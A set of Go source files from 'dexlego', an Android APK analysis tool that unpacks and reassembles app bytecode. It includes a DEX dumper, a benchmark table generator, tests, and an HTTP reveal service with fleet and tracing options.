	"dexlego/internal/droidbench"
	"dexlego/internal/experiments"
)

func main() {
	if err := run(os.Args[1:]); err != nil {
		fmt.Fprintln(os.Stderr, "droidbench:", err)
		os.Exit(1)
	}
}

func run(args []string) error {
	fs := flag.NewFlagSet("droidbench", flag.ContinueOnError)
	table := fs.Int("table", 0, "table to regenerate (2, 3 or 4)")
	figure := fs.Int("figure", 0, "figure to regenerate (5)")
	jobs := fs.Int("jobs", 0, "batch parallelism over the samples (0 = GOMAXPROCS)")
	list := fs.Bool("list", false, "list the benchmark samples")
	if err := fs.Parse(args); err != nil {
		return err
	}
	if *list {
		total, malware := droidbench.Counts()
		fmt.Printf("%d samples (%d leaky)\n", total, malware)
		for _, s := range droidbench.Suite() {
			kind := "benign"
			if s.Leaky {
				kind = fmt.Sprintf("leaky x%d", s.LeakCount)
			}
			tag := ""
			if s.Contributed {
				tag = " [contributed]"
			}
			fmt.Printf("  %-22s %-18s %s%s\n", s.Name, s.Category, kind, tag)
		}
		return nil
	}
	switch {
	case *table == 2 || *table == 3 || *figure == 5:
		res, err := experiments.RunDroidBenchJobs(*jobs)
		if err != nil {
			return err
		}
		switch {
		case *table == 2:
			fmt.Print(res.Table2String())
		case *table == 3:
			fmt.Print(res.Table3String())
		default:
			fmt.Print(experiments.Figure5String(experiments.Figure5(res)))
		}
	case *table == 4:
		rows, err := experiments.RunTable4()
		if err != nil {
			return err
		}
		fmt.Print(experiments.Table4String(rows))
	default:
		fs.Usage()
		return fmt.Errorf("pick -table 2|3|4, -figure 5, or -list")
	}
	return nil
}
