package main

import "testing"

func TestRunList(t *testing.T) {
	if err := run([]string{"-list"}); err != nil {
		t.Fatal(err)
	}
}

func TestRunTable4(t *testing.T) {
	if err := run([]string{"-table", "4"}); err != nil {
		t.Fatal(err)
	}
}

func TestRunNoSelection(t *testing.T) {
	if err := run(nil); err == nil {
		t.Error("no selection must fail")
	}
}

func TestRunFigure5(t *testing.T) {
	if err := run([]string{"-figure", "5"}); err != nil {
		t.Fatal(err)
	}
}
