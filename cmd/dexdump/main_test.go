package main

import (
	"os"
	"path/filepath"
	"testing"

	"dexlego/internal/dexgen"
)

func TestRunOnGeneratedFiles(t *testing.T) {
	p := dexgen.New()
	cls := p.Class("Ldump/Main;", "Landroid/app/Activity;")
	cls.Ctor("Landroid/app/Activity;", nil)
	cls.Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
		a.ReturnVoid()
	})
	dexBytes, err := p.Bytes()
	if err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	dexPath := filepath.Join(dir, "classes.dex")
	if err := os.WriteFile(dexPath, dexBytes, 0o644); err != nil {
		t.Fatal(err)
	}
	if err := run([]string{"-in", dexPath, "-verify"}); err != nil {
		t.Errorf("dexdump on dex: %v", err)
	}
	if err := run([]string{"-in", dexPath, "-class", "Ldump/Main;", "-method", "onCreate"}); err != nil {
		t.Errorf("dexdump with filters: %v", err)
	}
	pkg, err := dexgen.New().BuildAPK("d", "1", "")
	if err == nil {
		apkPath := filepath.Join(dir, "app.apk")
		data, err := pkg.Bytes()
		if err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(apkPath, data, 0o644); err != nil {
			t.Fatal(err)
		}
		if err := run([]string{"-in", apkPath}); err != nil {
			t.Errorf("dexdump on apk: %v", err)
		}
	}
	if err := run([]string{"-in", filepath.Join(dir, "missing.dex")}); err == nil {
		t.Error("missing input must fail")
	}
	if err := run(nil); err == nil {
		t.Error("missing -in must fail")
	}
}
