// Command dexdump inspects a DEX file (or the classes.dex of an APK):
// header summary, class list, and smali-style disassembly.
//
// Usage:
//
//	dexdump -in file.dex [-class Lcom/x/Y;] [-method name]
package main

import (
	"flag"
	"fmt"
	"os"
	"strings"

	"dexlego/internal/apk"
	"dexlego/internal/bytecode"
	"dexlego/internal/dex"
)

func main() {
	if err := run(os.Args[1:]); err != nil {
		fmt.Fprintln(os.Stderr, "dexdump:", err)
		os.Exit(1)
	}
}

func run(args []string) error {
	fs := flag.NewFlagSet("dexdump", flag.ContinueOnError)
	in := fs.String("in", "", "input .dex or .apk path")
	classFilter := fs.String("class", "", "only this class descriptor")
	methodFilter := fs.String("method", "", "only methods with this name")
	verify := fs.Bool("verify", false, "run the structural verifier and report defects")
	if err := fs.Parse(args); err != nil {
		return err
	}
	if *in == "" {
		fs.Usage()
		return fmt.Errorf("-in is required")
	}
	data, err := os.ReadFile(*in)
	if err != nil {
		return err
	}
	if strings.HasSuffix(*in, ".apk") {
		pkg, err := apk.Read(data)
		if err != nil {
			return err
		}
		data, err = pkg.Dex()
		if err != nil {
			return err
		}
	}
	f, err := dex.Read(data)
	if err != nil {
		return err
	}
	fmt.Printf("strings=%d types=%d protos=%d fields=%d methods=%d classes=%d instructions=%d\n",
		len(f.Strings), len(f.Types), len(f.Protos), len(f.Fields),
		len(f.Methods), len(f.Classes), f.InstructionCount())
	if *verify {
		defects := dex.Verify(f)
		if len(defects) == 0 {
			fmt.Println("verify: OK")
		}
		for _, d := range defects {
			fmt.Println("verify:", d)
		}
		if len(defects) > 0 {
			return fmt.Errorf("%d structural defects", len(defects))
		}
	}
	resolver := func(kind bytecode.IndexKind, idx uint32) string {
		switch kind {
		case bytecode.IndexString:
			return fmt.Sprintf("%q", f.String(idx))
		case bytecode.IndexType:
			return f.TypeName(idx)
		case bytecode.IndexField:
			return f.FieldAt(idx).Key()
		case bytecode.IndexMethod:
			return f.MethodAt(idx).Key()
		default:
			return fmt.Sprintf("@%d", idx)
		}
	}
	for ci := range f.Classes {
		cd := &f.Classes[ci]
		desc := f.TypeName(cd.Class)
		if *classFilter != "" && desc != *classFilter {
			continue
		}
		fmt.Printf("\nclass %s extends %s\n", desc, f.TypeName(cd.Superclass))
		for _, list := range [][]dex.EncodedMethod{cd.DirectMeths, cd.VirtualMeths} {
			for _, em := range list {
				ref := f.MethodAt(em.Method)
				if *methodFilter != "" && ref.Name != *methodFilter {
					continue
				}
				if em.Code == nil {
					fmt.Printf("  %s%s  (native/abstract)\n", ref.Name, ref.Signature)
					continue
				}
				fmt.Printf("  %s%s  regs=%d ins=%d tries=%d\n", ref.Name, ref.Signature,
					em.Code.RegistersSize, em.Code.InsSize, len(em.Code.Tries))
				lines, err := bytecode.Disassemble(em.Code.Insns, resolver)
				if err != nil {
					fmt.Printf("    <undecodable: %v>\n", err)
					continue
				}
				for _, l := range lines {
					fmt.Printf("    %s\n", l)
				}
			}
		}
	}
	return nil
}
