package main

import (
	"context"
	"fmt"
	"net"
	"net/http"
	"os"
	"os/signal"
	"path/filepath"
	"strings"
	"syscall"
	"time"

	"dexlego/internal/fleet"
	"dexlego/internal/obs"
	"dexlego/internal/pipeline"
	"dexlego/internal/server"
	"dexlego/internal/store"
)

// serveHooks lets tests observe the bound listener and stop the server
// without delivering a real signal; both are nil in production.
var serveHooks struct {
	listener func(net.Listener)
	stop     <-chan struct{}
}

// drainTimeout bounds the graceful shutdown after SIGTERM/SIGINT:
// in-flight requests and queued jobs get this long to finish.
const drainTimeout = 30 * time.Second

// serveConfig carries the -serve flag set into runServe.
type serveConfig struct {
	addr        string
	storeDir    string
	incremental bool
	// memBudget caps the estimated heap footprint of concurrently running
	// reveals and enables the spill tier (0 = unlimited, no spilling).
	memBudget     int64
	queueDepth    int
	jobs          int
	revealWorkers int
	sink          *obs.JSONLSink
	flightDir     string
	slo           time.Duration
	// fleetPeers enables fleet mode (non-empty): this node joins a
	// consistent-hash reveal fleet with the listed peers.
	fleetPeers       []string
	fleetSelf        string
	fleetReplication int
}

// runServe runs the reveal service — standalone or as one fleet node —
// until SIGTERM/SIGINT, then drains: admission stops (POST 503, readiness
// flips), in-flight HTTP requests and every admitted job complete, and
// only then does the process exit.
func runServe(sc serveConfig) error {
	st, err := store.Open(sc.storeDir, 0)
	if err != nil {
		return err
	}
	var obsSink obs.Sink
	if sc.sink != nil {
		obsSink = sc.sink
	}
	if sc.flightDir != "" {
		if err := os.MkdirAll(sc.flightDir, 0o755); err != nil {
			return fmt.Errorf("-flight-dir: %w", err)
		}
	}
	var mcache *store.MethodCache
	if sc.incremental {
		// The method cache persists beside the artifact store when one is on
		// disk, so warm trees survive restarts along with the artifacts.
		dir := ""
		if sc.storeDir != "" {
			dir = filepath.Join(sc.storeDir, "methods")
		}
		if mcache, err = store.OpenMethodCache(dir, 0); err != nil {
			return err
		}
	}
	var memBudget *pipeline.MemoryBudget
	var spillCache *store.MethodCache
	if sc.memBudget > 0 {
		memBudget = pipeline.NewMemoryBudget(sc.memBudget)
		// The spill tier persists beside the artifact store when one is on
		// disk; its in-memory LRU gets a quarter of the budget so spilled
		// bytes cannot themselves defeat the cap.
		dir := ""
		if sc.storeDir != "" {
			dir = filepath.Join(sc.storeDir, "spill")
		}
		if spillCache, err = store.OpenMethodCache(dir, sc.memBudget/4); err != nil {
			return err
		}
	}
	scfg := server.Config{
		Store:         st,
		MethodCache:   mcache,
		MemBudget:     memBudget,
		SpillCache:    spillCache,
		Workers:       sc.jobs,
		RevealWorkers: sc.revealWorkers,
		QueueDepth:    sc.queueDepth,
		Sink:          obsSink,
		FlightDir:     sc.flightDir,
		SLO:           sc.slo,
	}

	// Fleet mode wraps the server in a placement router; standalone mode
	// serves the server directly. Both expose the same job API, so the
	// drain path below is identical.
	var (
		handler http.Handler
		srv     *server.Server
		closeFn func()
	)
	if len(sc.fleetPeers) > 0 {
		self := sc.fleetSelf
		if self == "" {
			self = "http://" + sc.addr
		}
		node, err := fleet.New(fleet.Config{
			Server:      scfg,
			Self:        self,
			Peers:       sc.fleetPeers,
			Replication: sc.fleetReplication,
		})
		if err != nil {
			return err
		}
		handler, srv, closeFn = node.Handler(), node.Server(), node.Close
	} else {
		s, err := server.New(scfg)
		if err != nil {
			return err
		}
		handler, srv, closeFn = s.Handler(), s, s.Close
	}

	ln, err := net.Listen("tcp", sc.addr)
	if err != nil {
		closeFn()
		return fmt.Errorf("-addr: %w", err)
	}
	if serveHooks.listener != nil {
		serveHooks.listener(ln)
	}
	hs := &http.Server{
		Handler:           handler,
		ReadHeaderTimeout: 10 * time.Second,
	}
	ctx, stopSignals := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer stopSignals()
	errc := make(chan error, 1)
	go func() { errc <- hs.Serve(ln) }()
	storeDir := sc.storeDir
	if storeDir == "" {
		storeDir = "(memory only)"
	}
	if len(sc.fleetPeers) > 0 {
		fmt.Printf("dexlego fleet node on http://%s (peers %s, store %s, queue %d)\n",
			ln.Addr(), strings.Join(sc.fleetPeers, " "), storeDir, sc.queueDepth)
	} else {
		fmt.Printf("dexlego service on http://%s (store %s, queue %d)\n", ln.Addr(), storeDir, sc.queueDepth)
	}
	select {
	case err := <-errc:
		closeFn()
		return fmt.Errorf("serve: %w", err)
	case <-ctx.Done():
	case <-serveHooks.stop:
	}
	obs.Infof("drain: stopping admission, finishing in-flight jobs")
	srv.BeginDrain()
	shutdownCtx, cancel := context.WithTimeout(context.Background(), drainTimeout)
	defer cancel()
	if err := hs.Shutdown(shutdownCtx); err != nil {
		obs.Warnf("drain: http shutdown: %v", err)
	}
	closeFn()
	fmt.Println("dexlego service drained")
	return nil
}
