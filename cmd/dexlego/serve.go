package main

import (
	"context"
	"fmt"
	"net"
	"net/http"
	"os"
	"os/signal"
	"syscall"
	"time"

	"dexlego/internal/obs"
	"dexlego/internal/server"
	"dexlego/internal/store"
)

// serveHooks lets tests observe the bound listener and stop the server
// without delivering a real signal; both are nil in production.
var serveHooks struct {
	listener func(net.Listener)
	stop     <-chan struct{}
}

// drainTimeout bounds the graceful shutdown after SIGTERM/SIGINT:
// in-flight requests and queued jobs get this long to finish.
const drainTimeout = 30 * time.Second

// runServe runs the reveal service until SIGTERM/SIGINT, then drains:
// admission stops (POST 503, healthz 503), in-flight HTTP requests and
// every admitted job complete, and only then does the process exit.
func runServe(addr, storeDir string, queueDepth, jobs, revealWorkers int,
	sink *obs.JSONLSink, flightDir string, slo time.Duration) error {
	st, err := store.Open(storeDir, 0)
	if err != nil {
		return err
	}
	var obsSink obs.Sink
	if sink != nil {
		obsSink = sink
	}
	if flightDir != "" {
		if err := os.MkdirAll(flightDir, 0o755); err != nil {
			return fmt.Errorf("-flight-dir: %w", err)
		}
	}
	srv, err := server.New(server.Config{
		Store:         st,
		Workers:       jobs,
		RevealWorkers: revealWorkers,
		QueueDepth:    queueDepth,
		Sink:          obsSink,
		FlightDir:     flightDir,
		SLO:           slo,
	})
	if err != nil {
		return err
	}
	ln, err := net.Listen("tcp", addr)
	if err != nil {
		return fmt.Errorf("-addr: %w", err)
	}
	if serveHooks.listener != nil {
		serveHooks.listener(ln)
	}
	hs := &http.Server{
		Handler:           srv.Handler(),
		ReadHeaderTimeout: 10 * time.Second,
	}
	ctx, stopSignals := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer stopSignals()
	errc := make(chan error, 1)
	go func() { errc <- hs.Serve(ln) }()
	if storeDir == "" {
		storeDir = "(memory only)"
	}
	fmt.Printf("dexlego service on http://%s (store %s, queue %d)\n", ln.Addr(), storeDir, queueDepth)
	select {
	case err := <-errc:
		srv.Close()
		return fmt.Errorf("serve: %w", err)
	case <-ctx.Done():
	case <-serveHooks.stop:
	}
	obs.Infof("drain: stopping admission, finishing in-flight jobs")
	srv.BeginDrain()
	shutdownCtx, cancel := context.WithTimeout(context.Background(), drainTimeout)
	defer cancel()
	if err := hs.Shutdown(shutdownCtx); err != nil {
		obs.Warnf("drain: http shutdown: %v", err)
	}
	srv.Close()
	fmt.Println("dexlego service drained")
	return nil
}
