// Command dexlego reveals an APK: it executes the application under
// just-in-time collection in the runtime substrate and writes back an APK
// whose classes.dex is the reassembled, analyzable bytecode.
//
// Usage:
//
//	dexlego -apk app.apk -out revealed.apk [-collect dir] [-force] [-fuzz] [-workers n]
//	dexlego -sample SelfModifying1 -out revealed.apk [-trace-out trace.jsonl]
//	dexlego -batch -out dir [-jobs n] [-metrics-out report.json] a.apk b.apk ...
//	dexlego -serve [-addr host:port] [-store-dir dir] [-queue-depth n] [-jobs n]
//	dexlego -serve -fleet-peers http://n2:8080,http://n3:8080 [-fleet-self url] [-fleet-replication r]
//	dexlego -trace-report trace.jsonl ...
//
// In -batch mode every argument is an input APK; the corpus is revealed
// over a bounded worker pool (-jobs, default GOMAXPROCS), each job is
// panic-isolated, and -out names a directory receiving one
// <name>.revealed.apk per input. -metrics-out writes the per-stage batch
// metrics report as JSON (also honored in single-APK mode).
//
// In -serve mode the process runs the reveal-as-a-service HTTP job API
// (internal/server) until SIGTERM: POST /v1/reveal submits an APK (or
// ?sample=Name), GET /v1/jobs/{id} polls, GET /v1/metrics snapshots the
// service, and identical submissions are served from the content-addressed
// artifact store under -store-dir without re-running the reveal. -jobs
// sets the worker pool, -queue-depth the admission bound (full queue =
// HTTP 429). See the README "Service mode" section for curl examples.
//
// -fleet-peers turns the service into one node of a reveal fleet
// (internal/fleet): submissions are placed on a consistent-hash ring over
// all nodes, artifacts are shared over a peer protocol, and each unique
// reveal runs exactly once fleet-wide. Every node lists the others in
// -fleet-peers; -fleet-self overrides the node's own advertised URL when
// it differs from http://<-addr> (e.g. behind 0.0.0.0 binds). See the
// README "Fleet mode" section for a 3-node loopback quickstart.
//
// Observability: -trace-out streams the run's spans and domain events as
// JSONL (schema: internal/obs); -trace-report renders trace files back
// into per-app tables, and -trace-job filters that report down to one
// job's content-hash trace id; -flight-dir arms a per-job flight-recorder
// ring and dumps it as <name>.flight.jsonl when a reveal fails or exceeds
// the -slo latency objective; -log-level sets the stderr log threshold;
// -pprof serves net/http/pprof on the given address for the duration of
// the run. In -serve mode the same -flight-dir/-slo flags feed the
// service's incident plane, and GET /metrics exposes the OpenMetrics
// telemetry (lint it with cmd/omlint).
// -sample builds a named droidbench sample in memory (with its native
// stand-ins installed) instead of reading -apk, which gives a
// self-contained quickstart for exercising the tracer.
//
// The shell native libraries of all five supported packers are installed,
// so packed APKs produced by cmd/packbench unpack transparently.
package main

import (
	"bytes"
	"flag"
	"fmt"
	"net"
	"net/http"
	_ "net/http/pprof"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"time"

	root "dexlego"
	"dexlego/internal/apk"
	"dexlego/internal/art"
	"dexlego/internal/droidbench"
	"dexlego/internal/obs"
	"dexlego/internal/packer"
	"dexlego/internal/pipeline"
	"dexlego/internal/store"
)

func main() {
	if err := run(os.Args[1:]); err != nil {
		fmt.Fprintln(os.Stderr, "dexlego:", err)
		os.Exit(1)
	}
}

func run(args []string) error {
	fs := flag.NewFlagSet("dexlego", flag.ContinueOnError)
	apkPath := fs.String("apk", "", "input APK path (single mode)")
	samplePath := fs.String("sample", "", "build the named droidbench sample instead of reading -apk")
	outPath := fs.String("out", "", "output (revealed) APK path; a directory in -batch mode")
	collectDir := fs.String("collect", "", "directory for the five collection files")
	force := fs.Bool("force", false, "enable the force-execution coverage module")
	fuzz := fs.Bool("fuzz", false, "run the input-generation fuzzer during collection")
	seed := fs.Int64("seed", 1, "fuzzer seed")
	batch := fs.Bool("batch", false, "batch mode: reveal every APK argument over a worker pool")
	jobs := fs.Int("jobs", 0, "worker parallelism for -batch and -serve (default GOMAXPROCS)")
	workers := fs.Int("workers", 0, "intra-reveal parallelism: reassembly fan-out and forced-run pool per APK (default GOMAXPROCS; output is byte-identical at any count)")
	metricsOut := fs.String("metrics-out", "", "write the batch metrics report JSON to this file")
	serve := fs.Bool("serve", false, "service mode: run the HTTP reveal job API until SIGTERM")
	incremental := fs.Bool("incremental", false, "incremental reveal: cache per-method collection trees and splice them for unchanged methods (on by default in -serve; -incremental=false disables)")
	memBudget := fs.String("mem-budget", "", "reveal heap-footprint budget, e.g. 512MiB or 2G (empty = unlimited): reveals spill collection records to a cache mid-run and stream the DEX output; in -serve mode admission additionally gates on the budget")
	addr := fs.String("addr", "localhost:8080", "service listen address")
	storeDir := fs.String("store-dir", "", "service artifact store directory (empty = in-memory cache only)")
	queueDepth := fs.Int("queue-depth", 64, "service job queue bound; a full queue answers HTTP 429")
	traceOut := fs.String("trace-out", "", "write the observability trace (JSONL) to this file")
	traceReport := fs.Bool("trace-report", false, "render per-app tables from trace file arguments and exit")
	traceJob := fs.String("trace-job", "", "filter -trace-report output to one job's trace id (a content-hash prefix)")
	flightDir := fs.String("flight-dir", "", "directory receiving one JSONL flight recording per failed or SLO-violating reveal")
	slo := fs.Duration("slo", 0, "per-reveal latency objective; runs exceeding it dump their flight recording (0 = failures only)")
	logLevel := fs.String("log-level", "info", "stderr log threshold: debug, info, warn, error, off")
	pprofAddr := fs.String("pprof", "", "serve net/http/pprof on this address (e.g. localhost:6060)")
	fleetPeers := fs.String("fleet-peers", "", "comma-separated base URLs of the other fleet nodes (enables fleet mode; requires -serve)")
	fleetSelf := fs.String("fleet-self", "", "this node's base URL as its peers address it (default http://<-addr>)")
	fleetReplication := fs.Int("fleet-replication", 2, "fleet replica-set size: hot artifacts replicate to this many nodes and 429s escalate within the set")
	if err := fs.Parse(args); err != nil {
		return err
	}
	if err := validateFlags(fs, *serve, *jobs, *workers, *queueDepth, *slo, *fleetReplication); err != nil {
		return err
	}
	memBudgetBytes, err := parseByteSize(*memBudget)
	if err != nil {
		return fmt.Errorf("-mem-budget: %w", err)
	}
	lvl, err := obs.ParseLevel(*logLevel)
	if err != nil {
		return err
	}
	obs.SetLogLevel(lvl)
	if *pprofAddr != "" {
		ln, err := net.Listen("tcp", *pprofAddr)
		if err != nil {
			return fmt.Errorf("-pprof: %w", err)
		}
		defer ln.Close()
		obs.Infof("pprof listening on http://%s/debug/pprof/", ln.Addr())
		go func() { _ = http.Serve(ln, nil) }()
	}
	if *traceReport {
		return runTraceReport(fs.Args(), *traceJob)
	}
	opts := root.Options{
		InstallNatives: func(rt *art.Runtime) {
			for _, pk := range packer.All() {
				pk.InstallNatives(rt)
			}
		},
		Fuzz:           *fuzz,
		FuzzSeed:       *seed,
		ForceExecution: *force,
		Workers:        *workers,
	}
	if *incremental && !*serve {
		// One-shot modes get a memory-only cache: useless for a lone APK,
		// but -batch runs over a version corpus share trees across inputs.
		mc, err := store.OpenMethodCache("", 0)
		if err != nil {
			return err
		}
		opts.Incremental = true
		opts.MethodCache = mc
	}
	if memBudgetBytes > 0 && !*serve {
		// One-shot and batch modes get the spill tier (records displaced to
		// a memory-bounded cache mid-reveal, streamed DEX output) but no
		// admission gate — gating belongs to the service, where independent
		// submissions contend for one heap.
		sc, err := store.OpenMethodCache("", memBudgetBytes/4)
		if err != nil {
			return err
		}
		opts.SpillCache = sc
	}
	var sink *obs.JSONLSink
	if *traceOut != "" {
		f, err := os.Create(*traceOut)
		if err != nil {
			return fmt.Errorf("-trace-out: %w", err)
		}
		defer f.Close()
		sink = obs.NewJSONLSink(f)
	}
	if *serve {
		// Incremental reveal is the service default: a long-lived job API is
		// exactly where version chains of the same app keep arriving. Only an
		// explicit -incremental=false opts out.
		serveIncremental := *incremental || !flagWasSet(fs, "incremental")
		return runServe(serveConfig{
			addr:             *addr,
			storeDir:         *storeDir,
			incremental:      serveIncremental,
			memBudget:        memBudgetBytes,
			queueDepth:       *queueDepth,
			jobs:             *jobs,
			revealWorkers:    *workers,
			sink:             sink,
			flightDir:        *flightDir,
			slo:              *slo,
			fleetPeers:       splitPeers(*fleetPeers),
			fleetSelf:        *fleetSelf,
			fleetReplication: *fleetReplication,
		})
	}
	if *batch {
		return runBatch(fs.Args(), *outPath, *jobs, *metricsOut, sink, *flightDir, *slo, opts)
	}
	var pkg *apk.APK
	label := *apkPath
	switch {
	case *samplePath != "":
		s := droidbench.ByName(*samplePath)
		if s == nil {
			return fmt.Errorf("-sample: unknown droidbench sample %q", *samplePath)
		}
		pkg, err = s.Build()
		if err != nil {
			return err
		}
		opts.Natives = s.Natives()
		label = *samplePath
		obs.Debugf("built sample %s in memory", *samplePath)
	case *apkPath != "":
		pkg, err = readAPK(*apkPath)
		if err != nil {
			return err
		}
	default:
		fs.Usage()
		return fmt.Errorf("-apk (or -sample) and -out are required")
	}
	if *outPath == "" {
		fs.Usage()
		return fmt.Errorf("-apk (or -sample) and -out are required")
	}
	// The flight recorder arms even without -trace-out: its ring is the
	// only place the trace survives for a post-mortem dump in that case.
	var rec *obs.FlightRecorder
	if *flightDir != "" {
		rec = obs.NewFlightRecorder(teeSink(sink), 0)
		opts.Tracer = obs.New(rec)
	} else if sink != nil {
		opts.Tracer = obs.New(sink)
	}
	if opts.Tracer != nil {
		opts.TraceLabel = label
		opts.Tracer.SetTraceID(traceIDForAPK(pkg))
	}
	opts.CollectDir = *collectDir
	runStart := time.Now()
	res, err := root.Reveal(pkg, opts)
	if err != nil {
		if ferr := dumpFlight(rec, *flightDir, label, obs.FlightReasonFailed, opts.Tracer); ferr != nil {
			obs.Warnf("flight dump: %v", ferr)
		}
		return err
	}
	if dur := time.Since(runStart); *slo > 0 && dur > *slo {
		sp := opts.Tracer.Start("slo-check", label)
		sp.SLOViolation(label, dur, *slo)
		sp.End()
		if ferr := dumpFlight(rec, *flightDir, label, obs.FlightReasonSLO, opts.Tracer); ferr != nil {
			obs.Warnf("flight dump: %v", ferr)
		}
	}
	out, err := res.Revealed.Bytes()
	if err != nil {
		return err
	}
	if err := os.WriteFile(*outPath, out, 0o644); err != nil {
		return err
	}
	fmt.Printf("revealed %s -> %s\n", label, *outPath)
	fmt.Printf("  classes: %d  methods: %d (executed %d, stubs %d)\n",
		res.Stats.Classes, res.Stats.Methods, res.Stats.ExecutedMethods, res.Stats.Stubs)
	fmt.Printf("  self-modification layers merged: %d  variants: %d  reflection rewrites: %d\n",
		res.Stats.Divergences, res.Stats.Variants, res.Stats.ReflectionRewrites)
	if res.Coverage != nil {
		fmt.Printf("  coverage: instructions %s, branches %s\n",
			res.Coverage.Instruction, res.Coverage.Branch)
	}
	for _, ev := range res.Sinks {
		if ev.Leaky() {
			fmt.Printf("  runtime leak: %s via %s at %s\n", ev.Taint, ev.Sink, ev.Caller)
		}
	}
	if err := checkSink(sink, opts.Tracer, *traceOut); err != nil {
		return err
	}
	if *metricsOut != "" {
		return writeMetrics(*metricsOut, label, res)
	}
	return nil
}

// checkSink surfaces trace loss after the run: a trace file missing events
// is worse than a failed run that says so, and a non-zero dropped count
// means the written file is silently incomplete even when no write error
// latched.
func checkSink(sink *obs.JSONLSink, tr *obs.Tracer, path string) error {
	if sink != nil {
		if err := sink.Err(); err != nil {
			return fmt.Errorf("trace %s lost %d events: %w", path, tr.Dropped(), err)
		}
	}
	if n := tr.Dropped(); n > 0 {
		return fmt.Errorf("trace %s is incomplete: %d events dropped", path, n)
	}
	if sink != nil {
		obs.Debugf("trace written to %s", path)
	}
	return nil
}

// teeSink converts the optional JSONL sink into a Sink without producing
// a typed-nil interface when -trace-out is unset.
func teeSink(sink *obs.JSONLSink) obs.Sink {
	if sink == nil {
		return nil
	}
	return sink
}

// traceIDForAPK derives the stable trace identity stamped on every event
// of one APK's reveal: a content-hash prefix, so reruns of the same input
// share it and -trace-job can filter them out of any trace file.
func traceIDForAPK(pkg *apk.APK) string {
	h := pkg.ContentHash()
	return fmt.Sprintf("%x", h[:6])
}

// dumpFlight writes rec's ring to dir as a JSONL flight recording and
// announces the dump in the main trace. A nil recorder or empty dir is a
// no-op, so callers invoke it unconditionally on the incident path.
func dumpFlight(rec *obs.FlightRecorder, dir, label, reason string, tr *obs.Tracer) error {
	if rec == nil || dir == "" {
		return nil
	}
	var buf bytes.Buffer
	n, err := rec.Dump(&buf)
	if err != nil {
		return err
	}
	sp := tr.Start("flight", label)
	sp.FlightDump(label, n, reason)
	sp.End()
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return err
	}
	name := strings.TrimSuffix(filepath.Base(label), ".apk") + ".flight.jsonl"
	path := filepath.Join(dir, name)
	if err := os.WriteFile(path, buf.Bytes(), 0o644); err != nil {
		return err
	}
	obs.Warnf("flight recording (%s, %d events) written to %s", reason, n, path)
	return nil
}

// runTraceReport renders per-app tables from JSONL trace files; a
// non-empty job filters the report down to one job's trace id.
func runTraceReport(paths []string, job string) error {
	if len(paths) == 0 {
		return fmt.Errorf("-trace-report needs at least one trace file argument")
	}
	for _, path := range paths {
		f, err := os.Open(path)
		if err != nil {
			return err
		}
		tr, err := obs.ReadTrace(f)
		f.Close()
		if err != nil {
			return fmt.Errorf("%s: %w", path, err)
		}
		if job != "" {
			filtered := tr.FilterTrace(job)
			if len(filtered.Events) == 0 {
				return fmt.Errorf("%s: no events for job %q; trace ids present: %s",
					path, job, strings.Join(tr.TraceIDs(), ", "))
			}
			fmt.Printf("trace %s: %d of %d events for job %s\n",
				path, len(filtered.Events), len(tr.Events), job)
			fmt.Print(filtered.ReportString())
			continue
		}
		fmt.Printf("trace %s: %d events\n", path, len(tr.Events))
		fmt.Print(tr.ReportString())
	}
	return nil
}

// runBatch reveals every path over the worker pool and writes one
// <name>.revealed.apk per input into outDir. With -flight-dir every job
// carries a flight-recorder ring; failed or SLO-violating jobs dump it.
func runBatch(paths []string, outDir string, workers int, metricsOut string,
	sink *obs.JSONLSink, flightDir string, slo time.Duration, opts root.Options) error {
	if len(paths) == 0 {
		return fmt.Errorf("-batch needs at least one APK argument")
	}
	if outDir == "" {
		return fmt.Errorf("-out directory is required in -batch mode")
	}
	if err := os.MkdirAll(outDir, 0o755); err != nil {
		return err
	}
	jobs := make([]root.BatchJob, 0, len(paths))
	recs := make([]*obs.FlightRecorder, 0, len(paths))
	tracers := make([]*obs.Tracer, 0, len(paths))
	outNames := make(map[string]string, len(paths))
	for _, path := range paths {
		name := strings.TrimSuffix(filepath.Base(path), ".apk") + ".revealed.apk"
		if prev, dup := outNames[name]; dup {
			return fmt.Errorf("%s and %s would both write %s; rename one input",
				prev, path, filepath.Join(outDir, name))
		}
		outNames[name] = path
		pkg, err := readAPK(path)
		if err != nil {
			return fmt.Errorf("%s: %w", path, err)
		}
		jobOpts := opts
		var rec *obs.FlightRecorder
		if flightDir != "" {
			// One ring per job, all teeing into the shared sink.
			rec = obs.NewFlightRecorder(teeSink(sink), 0)
			jobOpts.Tracer = obs.New(rec)
		} else if sink != nil {
			// One tracer per job (per-app snapshots), one shared sink
			// (interleaved JSONL lines segment by root span on read).
			jobOpts.Tracer = obs.New(sink)
		}
		jobOpts.Tracer.SetTraceID(traceIDForAPK(pkg))
		recs = append(recs, rec)
		tracers = append(tracers, jobOpts.Tracer)
		jobs = append(jobs, root.BatchJob{Name: path, APK: pkg, Options: jobOpts})
	}
	batch := root.RevealBatch(jobs, workers)
	failed := 0
	for i, item := range batch.Items {
		if item.Err != nil {
			failed++
			fmt.Fprintf(os.Stderr, "dexlego: %s: %v\n", item.Name, item.Err)
			if err := dumpFlight(recs[i], flightDir, item.Name, obs.FlightReasonFailed, tracers[i]); err != nil {
				obs.Warnf("flight dump: %v", err)
			}
			continue
		}
		if slo > 0 && item.Result.Metrics != nil && item.Result.Metrics.Wall() > slo {
			sp := tracers[i].Start("slo-check", item.Name)
			sp.SLOViolation(item.Name, item.Result.Metrics.Wall(), slo)
			sp.End()
			if err := dumpFlight(recs[i], flightDir, item.Name, obs.FlightReasonSLO, tracers[i]); err != nil {
				obs.Warnf("flight dump: %v", err)
			}
		}
		data, err := item.Result.Revealed.Bytes()
		if err != nil {
			return err
		}
		name := strings.TrimSuffix(filepath.Base(item.Name), ".apk") + ".revealed.apk"
		if err := os.WriteFile(filepath.Join(outDir, name), data, 0o644); err != nil {
			return err
		}
	}
	fmt.Print(batch.Report.String())
	if sink != nil {
		if err := sink.Err(); err != nil {
			return fmt.Errorf("trace lost events: %w", err)
		}
	}
	var dropped int64
	for _, tr := range tracers {
		dropped += tr.Dropped()
	}
